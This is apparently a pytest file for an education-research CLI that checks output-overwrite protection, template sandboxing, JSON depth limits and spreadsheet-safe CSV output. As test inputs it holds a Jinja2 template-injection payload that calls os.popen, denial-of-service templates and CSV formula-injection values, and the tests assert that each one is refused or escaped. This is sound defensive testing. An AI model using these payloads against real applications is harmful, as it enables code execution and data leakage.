"""Issue 14's rules for the commands merged beside it (redact, tutor score/submission, tutor
interactive run/score, load mrbench, rubric copy): outputs never overwrite an input, CSV outputs
are spreadsheet-safe, templates go through the one sandbox, JSON is depth-bounded, empty inputs
are one line. Each run is a bounded child process (see conftest)."""

from __future__ import annotations

import json
import os

import pandas as pd
import pytest

from edukit.resources import bundled

from .conftest import digest

MRBENCH = bundled("datasets", "mrbench", "mrbench_sample.json")
V3_TEST = bundled("datasets", "mrbench", "mrbench_v3_test_sample.json")
PROBLEMS = bundled("datasets", "mathdial", "test.jsonl")
NOWHERE = "http://127.0.0.1:9/v1"  # nothing listens: a request would fail, so none may be sent


def _copy(src, dst):
    dst.write_bytes(src.read_bytes())
    return dst


def _items(tmp_path):
    path = tmp_path / "items.csv"
    path.write_text("item_id,text\n1,mail me at ana@example.org\n2,there\n", encoding="utf-8")
    return path


def _run(problems, out, *extra):
    return ["tutor", "interactive", "run", problems, "--tutor-model", "t", "--student-model", "s",
            "--tutor-base-url", NOWHERE, "--student-base-url", NOWHERE, "--out", out,
            "--quiet", *extra]  # fmt: skip


def _gold_predictions(tmp_path):
    """A judge's labels for the MRBench sample (the gold ones, renamed): a valid --predictions."""
    from edukit.corpora.mrbench import gold_annotations

    ann = gold_annotations(MRBENCH).assign(rater="judge")
    path = tmp_path / "pred.csv"
    ann.to_csv(path, index=False)
    return path


# --- outputs naming an input -------------------------------------------------------------------
def test_redact_outputs_naming_an_input(bounded, tmp_path):
    items = _items(tmp_path)
    names = tmp_path / "names.txt"
    names.write_text("Ana\n")
    link = tmp_path / "link.csv"
    os.symlink(items, link)
    before = digest(items, names)
    base = ["redact", items, "--id-col", "item_id", "--text-col", "text"]
    for extra, message in (
        (["--out", link], "--out is also an input"),
        (["--out", tmp_path / "o.csv", "--report", items], "--report is also an input"),
        (["--out", tmp_path / "o.csv", "--names", names, "--report", names], "--report is also"),
        (["--out", tmp_path / "o.jsonl", "--report", tmp_path / "o.jsonl"], "name the same file"),
    ):
        bounded(*base, *extra).assert_one_error(message)
    assert digest(items, names) == before
    assert not (tmp_path / "o.csv").exists() and not (tmp_path / "o.jsonl").exists()


def test_tutor_score_and_submission_outputs_naming_an_input(bounded, tmp_path):
    gold = _copy(MRBENCH, tmp_path / "gold.json")
    test = _copy(V3_TEST, tmp_path / "test.json")
    pred = _gold_predictions(tmp_path)
    before = digest(gold, test, pred)
    for option in ("--json", "--report", "--markdown"):
        r = bounded("tutor", "score", gold, "--predictions", pred, "--n-boot", "0", option, pred)
        r.assert_one_error(f"{option} is also an input")
    bounded("tutor", "score", gold, "--json", gold).assert_one_error("--json is also an input")
    r = bounded("tutor", "submission", test, "--predictions", pred, "--out", test)
    r.assert_one_error("--out is also an input")
    assert digest(gold, test, pred) == before


def test_interactive_run_outputs_naming_an_input(bounded, tmp_path):
    # the default turn table of --out p.jsonl is p-turns.jsonl: here, the problems file itself
    problems = _copy(PROBLEMS, tmp_path / "p-turns.jsonl")
    template = tmp_path / "system.csv"  # a template file may have any name
    template.write_text("You tutor: {{ question }}")
    before = digest(problems, template)
    for out, extra, message in (
        (tmp_path / "p.jsonl", [], "--turns is also an input"),
        (problems, [], "--out is also an input"),
        (tmp_path / "o.jsonl", ["--run-db", problems], "--run-db is also an input"),
        (tmp_path / "o.jsonl", ["--tutor-system", template, "--turns", template], "--turns is"),
        (tmp_path / "o.jsonl", ["--turns", tmp_path / "o.jsonl"], "name the same file"),
    ):
        bounded(*_run(problems, out, *extra)).assert_one_error(message)
    assert digest(problems, template) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p-turns.jsonl", "system.csv"]


def test_interactive_score_outputs_naming_an_input(bounded, tmp_path):
    chats = tmp_path / "chats.csv"
    chats.write_text("ground_truth,tutor\n 7,Teacher: hi<EOM>Student: 7\n", encoding="utf-8")
    before = digest(chats)
    for option in ("--json", "--report", "--outcomes"):
        r = bounded("tutor", "interactive", "score", chats, "--conversation-col", "tutor",
                    "--n-boot", "0", option, chats)  # fmt: skip
        r.assert_one_error(f"{option} is also an input")
    assert digest(chats) == before


def test_load_mrbench_out_naming_its_input_by_symlink(bounded, tmp_path):
    sample = _copy(MRBENCH, tmp_path / "mr.json")
    link = tmp_path / "mr.csv"
    os.symlink(sample, link)
    before = digest(sample)
    bounded("load", "mrbench", sample, "--out", link).assert_one_error("--out is also an input")
    assert digest(sample) == before


def test_rubric_copy_onto_the_bundled_rubric_itself(bounded, tmp_path):
    source = bundled("rubrics", "sight.yaml")
    link = tmp_path / "mine.yaml"
    os.symlink(source, link)
    before = digest(source)
    for dest in (source, link, source.parent):
        r = bounded("rubric", "copy", "sight", dest, "--force")
        r.assert_one_error("DEST is also an input")
    assert digest(source) == before


# --- templates: the one sandbox ----------------------------------------------------------------
def test_tutor_system_template_runs_no_code_and_takes_no_machine(bounded, tmp_path):
    problems = _copy(PROBLEMS, tmp_path / "problems.jsonl")
    template = tmp_path / "system.j2"
    for source, message in (
        ("{{ cycler.__init__.__globals__.os.popen('touch pwned').read() }}", "may not call"),
        ("{{ question * 1000000000 }}", "problems-0: refused by the template sandbox"),
        ("{{ 9 ** (9 ** 8) }}", "problems-0: refused by the template sandbox"),
        ("{{ question | center(2000000000) }}", "problems-0: refused by the template sandbox"),
        ("{% for a in question * 3000 %}{% for b in question * 3000 %}x{% endfor %}{% endfor %}",
         "problems-0: refused by the template sandbox"),
        ("{{ 1 / 0 }}", "problems-0: ZeroDivisionError"),
    ):  # fmt: skip
        template.write_text(source)
        r = bounded(*_run(problems, tmp_path / "o.jsonl", "--tutor-system", template,
                          "--run-db", tmp_path / "r.sqlite"))  # fmt: skip
        r.assert_one_error(f"{template}:1: template: ", message)
    assert not (tmp_path / "pwned").exists() and not (tmp_path / "o.jsonl").exists()


# --- bounded JSON and empty inputs -------------------------------------------------------------
def test_mrbench_and_problems_json_nested_deep(bounded, tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    bounded("load", "mrbench", deep).assert_one_error(f"{deep}", "nested deeper than")
    bounded("tutor", "score", deep).assert_one_error(f"{deep}", "nested deeper than")
    problems = tmp_path / "deep.jsonl"
    problems.write_text('{"question": ' + "[" * 100_000 + "]" * 100_000 + "}\n")
    bounded(*_run(problems, tmp_path / "o.jsonl")).assert_one_error(f"{problems}", "nested deeper")


def test_empty_inputs_are_one_line(bounded, tmp_path):
    empty_json = tmp_path / "empty.json"
    empty_json.write_text("")
    bracket = tmp_path / "none.json"
    bracket.write_text("[]\n")
    empty_jsonl = tmp_path / "empty.jsonl"
    empty_jsonl.write_text("\n")
    header = tmp_path / "header.csv"
    header.write_text("item_id,text\n")
    chats = tmp_path / "chats.csv"
    chats.write_text("ground_truth,tutor\n")
    pred = _gold_predictions(tmp_path)
    for args, fragment in (
        (["load", "mrbench", empty_json], f"{empty_json}: empty file"),
        (["load", "mrbench", bracket], "non-empty list of dialogues"),
        (["tutor", "score", bracket], "non-empty list of dialogues"),
        (["tutor", "submission", empty_json, "--predictions", pred, "--out", tmp_path / "s.json"],
         f"{empty_json}: empty file"),
        (["redact", header, "--out", tmp_path / "o.csv", "--id-col", "item_id",
          "--text-col", "text"], f"{header}"),
        (["redact", empty_jsonl, "--out", tmp_path / "o.csv"], f"{empty_jsonl}"),
        (_run(empty_jsonl, tmp_path / "o.jsonl"), f"{empty_jsonl}"),
        (["tutor", "interactive", "score", chats, "--conversation-col", "tutor"], f"{chats}"),
    ):  # fmt: skip
        bounded(*args).assert_one_error(fragment)
    assert not (tmp_path / "o.csv").exists() and not (tmp_path / "s.json").exists()


# --- Excel dialects and formula injection ------------------------------------------------------
def test_redact_reads_excel_dialects_and_writes_safe_csv(bounded, tmp_path):
    items = tmp_path / "excel.csv"
    rows = 'item_id;text\n=1+1;Jos\u00e9 wrote =HYPERLINK("http://x")\n2;@SUM(1)\n'
    items.write_bytes(rows.encode("cp1252"))
    base = ["redact", items, "--id-col", "item_id", "--text-col", "text"]
    bounded(*base, "--out", tmp_path / "o.csv").assert_one_error("--encoding cp1252")
    r = bounded(*base, "--out", tmp_path / "o.csv", "--encoding", "cp1252", "--sep", ";")
    assert r.code == 0, r.err
    raw = pd.read_csv(tmp_path / "o.csv", dtype=str, keep_default_na=False)
    assert list(raw["item_id"]) == ["'=1+1", "2"] and raw["text"].iloc[1] == "'@SUM(1)"
    r = bounded(*base, "--out", tmp_path / "r.csv", "--encoding", "cp1252", "--raw-csv")
    assert r.code == 0, r.err
    raw = pd.read_csv(tmp_path / "r.csv", dtype=str, keep_default_na=False)
    assert list(raw["item_id"]) == ["=1+1", "2"]


def test_load_mrbench_csv_is_spreadsheet_safe(bounded, tmp_path):
    data = json.loads(MRBENCH.read_text(encoding="utf-8"))
    first = next(iter(data[0]["anno_llm_responses"].values()))
    first["response"] = '=HYPERLINK("http://x/?"&A1,"click")'
    evil = tmp_path / "evil.json"
    evil.write_text(json.dumps(data), encoding="utf-8")
    r = bounded("load", "mrbench", evil, "--out", tmp_path / "o.csv")
    assert r.code == 0, r.err
    raw = pd.read_csv(tmp_path / "o.csv", dtype=str, keep_default_na=False)
    assert not any(c.startswith("=") for col in ("text", "response_raw") for c in raw[col])
    r = bounded("load", "mrbench", evil, "--out", tmp_path / "raw.csv", "--raw-csv")
    raw = pd.read_csv(tmp_path / "raw.csv", dtype=str, keep_default_na=False)
    assert raw["text"].iloc[0] == first["response"]


def test_tutor_score_reads_semicolon_predictions(bounded, tmp_path):
    pred = _gold_predictions(tmp_path)
    semi = tmp_path / "semi.csv"
    pd.read_csv(pred, dtype=str).to_csv(semi, sep=";", index=False)
    r = bounded("tutor", "score", MRBENCH, "--predictions", semi, "--n-boot", "0", "--sep", ";")
    assert r.code == 0, r.err
    assert "The judge judge against gold" in r.out


# --- prices: the user's price file is read by edukit/annotate/cost.py (another owner's area) ---
@pytest.mark.parametrize(
    "content", [b"[" * 100_000 + b"]" * 100_000, b"\xff\xfe{}"], ids=["deep", "latin1"]
)
def test_prices_override_file_is_one_line(bounded, tmp_path, monkeypatch, content):
    folder = tmp_path / "config" / "edukit"
    folder.mkdir(parents=True)
    (folder / "prices.json").write_bytes(content)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    bounded("prices").assert_one_error(f"{folder / 'prices.json'}")
